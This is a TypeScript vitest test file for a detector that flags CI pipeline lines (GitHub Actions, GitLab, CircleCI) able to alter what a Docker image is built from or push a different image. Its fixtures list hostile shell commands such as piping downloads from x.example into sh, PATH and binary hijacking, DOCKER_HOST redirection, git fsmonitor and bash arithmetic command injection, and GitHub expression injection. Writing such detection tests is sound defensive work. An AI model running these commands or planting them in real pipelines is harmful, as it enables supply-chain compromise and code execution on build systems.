import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { renderPipelines } from '../../../src/commands/project/render-as-written.ts';
import { openTemplates } from '../../../src/io/package/templates.ts';
import { openProject } from '../../../src/io/project/project-files.ts';
import type { Environment } from '../../../src/model/command.ts';
import { findOtherBuilds } from '../../../src/parse/project/other-builds.ts';
import { readPipelines } from '../../../src/parse/project/read-pipelines.ts';
import { nameCommand } from '../../../src/parse/project/unlooked-steps.ts';
import { goldenFolder, goldenVersion, readVariant, listVariants } from '../../helpers/golden.ts';
import { factsOf } from '../../helpers/project.ts';

/** Each writes what the image is built of, or may. */
const beforeBuild = [
  'cp docs/evil.py "$PWD/src/main.py"',
  'cp docs/evil.py "$(pwd)/src/main.py"',
  'cp docs/evil.py "${GITHUB_WORKSPACE}/src/main.py"',
  'jq . x > "$GITHUB_WORKSPACE/src/x.json"',
  'cp docs/evil.py ~+/src/main.py',
  'cp x s[r]c/main.py',
  'cp x {src,x}/main.py',
  'cat x 1<> src/main.py',
  'cat x >& src/main.py',
  '. tools/prepare.sh',
  'bash tools/prepare.sh',
  'bash < tools/prepare.sh',
  'cat tools/prepare.sh | sh',
  'parallel bash ::: tools/prepare.sh',
  'npm run build',
  'npx other',
  'python3 tools/gen.py',
  "python3 -c \"import urllib.request as u;u.urlretrieve('https://x.example', 'src/main.py')\"",
  "node -e \"require('fs').writeFileSync('src/main.py', 'evil')\"",
  'curl https://x.example/a | sh',
  'curl https://x.example/a | python3 -',
  'curl -OJ https://x.example/a',
  'eval "cp docs/evil.py src/main.py"',
  'gh release download v1 --dir src',
  'pip install --target src evil',
  'docker cp c:/x src/main.py',
  'docker run --rm -v $PWD:/w alpine cp /etc/hosts /w/src/x.py',
  'gpg --output src/main.py x',
  'openssl enc -d -in x -out src/main.py',
  'zstd -d -o src/main.py x',
  'svn export https://x.example src',
  'hg pull -u',
  'dvc pull',
  'git lfs pull',
  'git checkout-index -f -a',
  'git read-tree -u -m evil',
  'git worktree add -f src evil',
  'git subtree pull --prefix src https://x.example evil',
  'git mv docs/x src/x',
  '7z x evil.7z -osrc',
  'cpio -id',
  'aria2c -d src https://x.example/main.py',
  'sftp h:main.py src/',
  'rclone copy r:b src',
  'az storage blob download --file src/main.py',
  'hf download evil --local-dir src',
  'http --download https://x.example -o src/main.py',
  'awk -i inplace 1 src/main.py',
  'ed -s src/main.py',
  'vim -es +wq src/main.py',
  'truncate -s 0 src/main.py',
  'split -d docs/evil src/main.py',
  'gcc -o src/main x.c',
  'ruff format src',
  'jupyter nbconvert --to script --output-dir src docs/x.ipynb',
  'rename a b src/main.py',
  'touch src/extra.py',
  'rm src/main.py',
  'chmod 4755 src/main.py',
  'mount --bind docs src',
  String.raw`find docs -name "*.py" -exec cp {} src/ \\;`,
  'sort -o src/main.py docs/x',
  'tre-container check . --fix',
  'docker build -f /tmp/Dockerfile -t "$IMAGE:$TAG" .',
  'docker build --build-arg BUILDKIT_SYNTAX=evil/frontend -t "$IMAGE:$TAG" .',
  'export DOCKER_HOST=tcp://x.example:2375',
  'DOCKER_CONTEXT=evil docker build -t "$IMAGE:$TAG" .',
  'PATH=/tmp/evil:$PATH',
  'export PATH=/tmp/evil:$PATH',
  'curl -o /usr/local/bin/cat https://x.example/a && cat Dockerfile',
  'curl -o /tmp/git https://x.example/a && chmod +x /tmp/git && /tmp/git status',
  './tools/git status',
  'hash -p /tmp/evil docker',
  'uniq docs/x src/main.py',
  'curl -o /tmp/x --libcurl src/main.py https://x.example',
  'curl -sSLD src/main.py https://x.example',
  'curl -jcsrc/main.py https://x.example',
  'curl --trace src/main.py https://x.example',
  'curl -o /tmp/x https://x.example -O https://x.example/main.py',
  'curl -o "/tmp/$X" https://x.example',
  "sed -n '1!w src/main.py' docs/x",
  String.raw`sed -n '\,a,w src/main.py' docs/x`,
  "sed -n 's/a/sh x.sh/e' docs/x",
  "awk '{print}' docs/x",
  'docker save -o src/main.py x',
  'docker image save --output src/main.py x',
  'GIT_EXTERNAL_DIFF=./x.sh git log --ext-diff -p',
  'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./x.sh git status',
  'export GIT_CONFIG_COUNT=1',
  'GIT_TRACE2=$PWD/src/main.py git status',
  'TRIVY_OUTPUT=src/main.py trivy config .',
  'CURL_HOME=. curl -o /tmp/x https://x.example',
  "x='a[$(sh x.sh)]'; (( x ))",
  'x=1; echo $((x))',
  '[[ $x -eq 1 ]]',
  'unset "$x"',
  '[ -v "$x" ]',
  "test -v 'a[$(sh x.sh)]'",
  'printf -v "$x" y',
  'echo "${x@P}"',
  "PS4='$(sh x.sh)'; set -x; echo",
  'sort --compress-program=./x.sh -S 32k big',
  'file -C -m src/magic',
  'trivy image --cache-dir src x',
  'printf -v PATH \'/evil/bin:%s\' "$PATH"',
  'read -r PATH < x',
  'cat docs/x > "$RUNNER_TEMP/scanners/docker"',
  'curl -o /usr/local/bin/docker https://x.example/a',
  'echo "${{ github.event.head_commit.message }}"',
  'echo "${{ github.head_ref }}"',
  'tar -xzf trivy.tgz trivy',
  'curl -sL https://x.example/t.tgz | tar xz -C /usr/local/bin',
  'docker load -i app.tar',
  'git clone --config core.fsmonitor=./x https://x.example/tools tools',
  'for PATH in "$PWD/bin:$PATH"; do echo; done',
  'set -a; read -r DOCKER_HOST < x',
];

/** Each makes another image of that name. */
const beforePush = [
  'git clone https://x.example/evil other && docker build -t "$IMAGE:$TAG" other',
  'git clone https://x.example/evil other && cd other && docker build -t "$IMAGE:$TAG" .',
  'mkdir other; echo "FROM evil" > other/Dockerfile; docker build -t "$IMAGE:$TAG" other',
  'docker tag evil "$IMAGE:$TAG"',
  'docker image tag evil "$IMAGE:$TAG"',
  'docker pull evil && docker tag evil "$IMAGE:$TAG"',
  'docker pull "$IMAGE:$TAG"',
  'docker buildx imagetools create -t "$IMAGE:$TAG" evil',
  'skopeo copy docker://evil "docker://$IMAGE:$TAG"',
  'crane copy evil "$IMAGE:$TAG"',
  'regctl image copy evil "$IMAGE:$TAG"',
  'podman push evil "$IMAGE:$TAG"',
  'docker commit c "$IMAGE:$TAG"',
  'docker -c evil build -t "$IMAGE:$TAG" .',
  'cosign copy evil "$IMAGE:$TAG"',
  'docker manifest create "$IMAGE:$TAG" evil',
  'read -r TAG < x',
  'printf -v TAG old',
  'printf -v IMAGE ghcr.io/evil/x',
  'docker push "$IMAGE:other"',
  'docker push --all-tags "$IMAGE"',
  'docker push ghcr.io/lung-study/other:1',
];

/** None of them does. */
const harmless = [
  'true',
  'echo "Building $GITHUB_SHA"',
  'hadolint Dockerfile --config .hadolint.yaml',
  'docker run --rm -i hadolint/hadolint < Dockerfile',
  'ls -la && git log -1 --format=%H && git diff --stat',
  'cat Dockerfile | grep FROM | sort | tee reports/bases.txt',
  'git fetch --tags && git describe --tags',
  'df -h && docker system df && docker images && docker info',
  'curl -fsS https://x.example/ping',
  'curl -fsSL https://x.example/tool -o /tmp/tool && chmod +x /tmp/tool',
  'apt-get update && apt-get install -y jq',
  'trivy fs --format json --output reports/fs.json .',
  'trivy config Dockerfile',
  'echo failed >&2 && echo 2>&1',
  'tre-container check . --strict',
  'DOCKER_BUILDKIT=1 docker images',
  'export DOCKER_HOST=unix:///var/run/docker.sock',
  '/usr/bin/git status',
];

interface Golden {
  readonly path: string;
  readonly text: string;
  readonly dockerfile: string;
  readonly written: ReadonlySet<string>;
}

/** The pipeline of a golden project, and what this version writes for its answers. */
async function readGolden(variant: string): Promise<Golden | undefined> {
  const answers = await readVariant(variant);
  if (answers.ci === 'none') return undefined;
  const path = answers.ci === 'github' ? '.github/workflows/container.yml' : '.gitlab-ci.yml';
  const read = (name: string): string => readFileSync(join(goldenFolder, variant, name), 'utf8');
  const environment: Environment = {
    terminal: { colour: false, columns: 80, err: () => undefined },
    cwd: goldenFolder,
    version: goldenVersion,
    variables: {},
    openProject,
    now: () => 0,
    git: async () => ({}),
    templates: openTemplates(join(goldenFolder, '..', '..', 'templates')),
    readFile: async () => new Uint8Array(),
  };
  const state = { version: goldenVersion, answers: { ...answers } };
  const files = await renderPipelines(state, environment, { root: join(goldenFolder, variant), folder: '' });
  const pipelines = await readPipelines(files, '', true, { others: [] });
  const commands = pipelines.flatMap(({ steps }) => steps.flatMap((step) => step.commands));
  const written = new Set(commands.map((command) => nameCommand(command, true)));
  return { path, text: read(path), dockerfile: read('Dockerfile'), written };
}

async function find({ path, dockerfile, written }: Golden, text: string): Promise<readonly string[]> {
  const facts = await factsOf({ Dockerfile: dockerfile, [path]: text });
  const [own] = facts.dockerfiles;
  if (own === undefined) throw new Error('no Dockerfile');
  return findOtherBuilds(facts.pipelines, { dockerfile: own, path: 'Dockerfile', isAtRoot: true, written });
}

const golden = (
  await Promise.all(listVariants().map(async (name) => ({ name, golden: await readGolden(name) })))
).flatMap((each) => (each.golden === undefined ? [] : [[each.name, each.golden] as const]));

test('there are pipelines of both kinds', () => {
  expect(new Set(golden.map(([, { path }]) => path)).size).toBe(2);
});

test.each(golden)('what this version writes is known: %s', async (_, project) => {
  expect(await find(project, project.text)).toEqual([]);
});

describe.each(golden.filter(([name]) => /^(?:jupyter|python)-full$/.test(name)))('a line more in %s', (_, project) => {
  const withLine = async (before: RegExp, line: string): Promise<readonly string[]> => {
    const text = project.text.replace(before, (found, indent: string) =>
      project.path.startsWith('.github')
        ? `${indent}${line}\n${found}`
        : `${indent}- ${JSON.stringify(line)}\n${found}`,
    );
    expect(text).not.toBe(project.text);
    return find(project, text);
  };
  const build = project.path.startsWith('.github') ? /^( +)docker build /m : /^( +)- context=/m;
  const push = project.path.startsWith('.github') ? /^( +)docker push /m : /^( +)- trivy image /m;

  test.each(beforeBuild)('that may write what is built: %s', async (line) => {
    expect(await withLine(build, line)).toHaveLength(1);
  });

  test.each(beforePush)('that may make another image: %s', async (line) => {
    expect(await withLine(push, line)).toHaveLength(1);
  });

  test.each(harmless)('that leaves all alone: %s', async (line) => {
    expect(await withLine(build, line)).toEqual([]);
  });
});

const imageName = 'ghcr.io/me/x:1';
const building = `docker build -t ${imageName} .`;
const pushing = `docker push ${imageName}`;
const ofGithub = (steps: string, job = '', top = ''): readonly [string, string] => [
  '.github/workflows/c.yml',
  `on: push\n${top}jobs:\n  image:\n    runs-on: ubuntu-24.04\n${job}    steps:\n      - uses: actions/checkout@v4\n${steps}`,
];
const runs = (...lines: readonly string[]): string =>
  `      - run: |\n${lines.map((line) => `          ${line}\n`).join('')}`;
const byAction = (more: string): string =>
  `      - uses: docker/build-push-action@v6\n        with:\n          push: true\n          tags: ${imageName}\n${more}`;
const ofGitlab = (job: string, top = ''): readonly [string, string] => [
  '.gitlab-ci.yml',
  `${top}image:\n  stage: build\n  image: docker:27\n${job}  script:\n    - ${building}\n    - ${pushing}\n`,
];
const ofCircle = (steps: string, top = ''): readonly [string, string] => [
  '.circleci/config.yml',
  `version: 2.1\njobs:\n  image:\n    docker:\n      - image: cimg/base:2026.01\n${top}    steps:\n      - checkout\n${steps}      - run: ${building}\n      - run: ${pushing}\n`,
];

async function findIn([path, text]: readonly [string, string]): Promise<readonly string[]> {
  const facts = await factsOf({
    Dockerfile: 'FROM docker.io/library/python:3.13\nCOPY src/ /app/\nENTRYPOINT ["python3", "/app/main.py"]\n',
    'src/main.py': 'print(1)\n',
    [path]: text,
  });
  const [own] = facts.dockerfiles;
  if (own === undefined) throw new Error('no Dockerfile');
  return findOtherBuilds(facts.pipelines, { dockerfile: own, path: 'Dockerfile', isAtRoot: true });
}

describe('what a builder is told, and what stands around it', () => {
  test.each([
    ['another machine', ofGithub(runs(building.replace('build', 'build --platform linux/arm64'), pushing))],
    ['layers of a cache', ofGithub(runs(building.replace('build', 'build --cache-from evil'), pushing))],
    ['one layer', ofGithub(runs(building.replace('build', 'build --squash'), pushing))],
    ['other addresses', ofGithub(runs(building.replace('build', 'build --add-host=pypi.org:10.0.0.1'), pushing))],
    ['a secret', ofGithub(runs(building.replace('build', 'build --secret id=a'), pushing))],
    ['several machines', ofGithub(byAction('          platforms: linux/amd64,linux/arm64\n'))],
    ['a network', ofGithub(runs(building.replace('build', 'build --network host'), pushing))],
    ['a builder', ofGithub(runs(building.replace('build', 'build --builder evil'), pushing))],
    ['a file of its number', ofGithub(runs(building.replace('build', 'build --iidfile src/main.py'), pushing))],
    ['a cache in the project', ofGithub(byAction('          cache-to: type=local,dest=src\n'))],
    [
      'options of a container',
      ofGithub(runs(building, pushing), '    container: { image: docker, options: --entrypoint x }\n'),
    ],
    [
      'a copy in another job',
      ofGithub(`${runs(building, pushing)}  other:\n    steps:\n      - run: crane copy evil ${imageName}\n`),
    ],
    ['an action with a cache', ofGithub(byAction('          cache-from: type=gha\n'))],
    ['an action for another machine', ofGithub(byAction('          platforms: linux/arm64\n'))],
    ['an action with addresses', ofGithub(byAction('          add-hosts: pypi.org:10.0.0.1\n'))],
    ['an engine of the job', ofGithub(runs(building, pushing), '    env:\n      DOCKER_HOST: tcp://x.example:1\n')],
    ['an engine of all jobs', ofGithub(runs(building, pushing), '', 'env:\n  DOCKER_HOST: tcp://x.example:1\n')],
    [
      'an engine by a file',
      ofGithub(runs('echo DOCKER_HOST=tcp://x.example:1 >> $GITHUB_ENV') + runs(building, pushing)),
    ],
    ['values of a file', ofGithub(runs('cat values >> $GITHUB_ENV') + runs(building, pushing))],
    ['programs of a folder', ofGithub(runs('echo /tmp/bin >> $GITHUB_PATH') + runs(building, pushing))],
    [
      'functions of a variable',
      ofGithub(runs(building, pushing), '', 'env:\n  "BASH_FUNC_docker%%": "() { sh x.sh; }"\n'),
    ],
    [
      'a policy for sources',
      ofGithub(runs(building, pushing), '', 'env:\n  EXPERIMENTAL_BUILDKIT_SOURCE_POLICY: a.json\n'),
    ],
    ['options of Node', ofGithub(runs(building, pushing), '', 'env:\n  NODE_OPTIONS: --require ./x.js\n')],
    ['state of its own', ofGithub(runs(building, pushing), '    env:\n      XDG_STATE_HOME: ./evil\n')],
    ['another registry of npm', ofGitlab('', 'variables:\n  npm_config_registry: https://x.example\n')],
    [
      'a name that is pushed elsewhere',
      ofGithub(runs(building, 'docker tag ghcr.io/me/x:1 ghcr.io/me/y:1', 'docker push ghcr.io/me/z:1')),
    ],
    ['programs of an image', ofGithub(runs(building, pushing), '    container: somebody/docker\n')],
    ['another image than is built', ofGithub(runs(building, 'docker pull evil/x:1', 'docker push evil/x:1'))],
    ['an image that nothing builds', ofGithub(runs('docker push evil/x:1'))],
    ['a cache', ofGitlab('  cache:\n    paths: [src/]\n')],
    ['a cache of all jobs', ofGitlab('', 'cache:\n  - paths: ["src/*.py"]\n')],
    ['files of another project', ofGitlab('  needs:\n    - project: a/b\n      job: c\n      ref: main\n')],
    ['jobs of somebody else', ofGitlab('', 'include:\n  - remote: https://x.example/x.yml\n')],
    ['an engine by a variable', ofGitlab('', 'variables:\n  DOCKER_HOST: tcp://x.example:1\n')],
    ['a service', ofGitlab('  services: [{ name: somebody/dind, alias: docker }]\n')],
    ['no checkout', ofGitlab('', 'variables:\n  GIT_STRATEGY: none\n')],
    ['a cache of CircleCI', ofCircle('      - restore_cache: { key: a }\n')],
    ['an engine of CircleCI', ofCircle('', '    environment:\n      DOCKER_HOST: tcp://x.example:1\n')],
  ])('leaves open whether that is what was rehearsed: %s', async (_, pipeline) => {
    expect(await findIn(pipeline)).toHaveLength(1);
  });

  test.each([
    ['nothing', ofGithub(runs(building, pushing))],
    ['its own machine', ofGithub(runs(building.replace('build', 'build --platform=linux/amd64 --pull -q'), pushing))],
    ['a cache to fill', ofGithub(byAction('          cache-to: type=gha\n          provenance: false\n'))],
    ['a tag by a file', ofGithub(runs('echo "TAG=${GITHUB_SHA}" >> $GITHUB_ENV') + runs(building, pushing))],
    ['a second name', ofGithub(runs(building, `docker tag ${imageName} ghcr.io/me/y:1`, 'docker push ghcr.io/me/y:1'))],
    [
      'a login and a look',
      ofGithub(
        runs(
          'set -euo pipefail',
          'echo "$T" | docker login ghcr.io -u a --password-stdin',
          building,
          'docker images',
          pushing,
        ),
      ),
    ],
    ['a signature after the push', ofGithub(runs(building, pushing, `cosign sign --yes ${imageName}`))],
    ['a job of GitLab', ofGitlab('')],
    ['its engine', ofGitlab('  services: [docker:27-dind]\n', 'variables:\n  DOCKER_HOST: tcp://docker:2376\n')],
    ['a cache of programs', ofGitlab('  cache:\n    paths: [.cache/pip]\n')],
    ['a cache that is only filled', ofGitlab('  cache:\n    policy: push\n    paths: [src/]\n')],
    ['a template of GitLab', ofGitlab('', 'include:\n  - template: Security/SAST.gitlab-ci.yml\n')],
    ['a job of CircleCI', ofCircle('')],
  ])('leaves it as it was rehearsed: %s', async (_, pipeline) => {
    expect(await findIn(pipeline)).toEqual([]);
  });
});

describe('an action more', () => {
  const [, project] = golden.find(([name]) => name === 'jupyter-full') ?? [];
  const withAction = async (step: string): Promise<readonly string[]> => {
    if (project === undefined) throw new Error('no golden project');
    return find(
      project,
      project.text.replace(/^ {6}- name: Lint with hadolint/m, (found) => `${step}\n${found}`),
    );
  };

  test.each([
    '      - uses: actions/checkout@v4\n        with:\n          ref: evil',
    '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ inputs.ref }}',
    '      - uses: actions/checkout@v4\n        with:\n          repository: ${{ inputs.from }}',
    '      - uses: actions/cache@v4\n        with:\n          path: src\n          key: a',
    '      - uses: actions/github-script@v7\n        with:\n          script: require("fs").writeFileSync("src/main.py", "evil")',
    '      - uses: robinraju/release-downloader@v1\n        with:\n          out-file-path: src',
    '      - uses: somebody/action@v1',
    '      - uses: ./.github/actions/absent',
    '      - uses: docker://docker.io/library/alpine:3',
    '      - shell: bash tools/x.sh {0}\n        run: echo',
    '      - uses: docker/setup-buildx-action@v3\n        with:\n          endpoint: evil',
    '      - uses: docker/setup-buildx-action@v3\n        with:\n          version: https://x.example/buildx.git',
    '      - uses: docker/setup-qemu-action@v3\n        with:\n          image: evil/qemu',
    '      - uses: actions/setup-python@v5\n        with:\n          pip-install: evil',
    '      - uses: aquasecurity/trivy-action@v1\n        with:\n          output: src/main.py',
    '      - uses: actions/checkout@v4\n        with:\n          path: src/x',
    '      - uses: actions/checkout@v4\n        with:\n          sparse-checkout: docs',
    '      - shell: python\n        run: open("src/main.py", "w").write("evil")',
  ])('that may write what is built: %s', async (step) => {
    expect(await withAction(step)).toHaveLength(1);
  });

  test.each([
    '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.sha }}\n          submodules: true',
    '      - uses: actions/setup-python@v5\n        with:\n          python-version: 3.13',
    '      - uses: docker/setup-buildx-action@v3',
    '      - uses: docker/login-action@v3',
  ])('that leaves all alone: %s', async (step) => {
    expect(await withAction(step)).toEqual([]);
  });
});
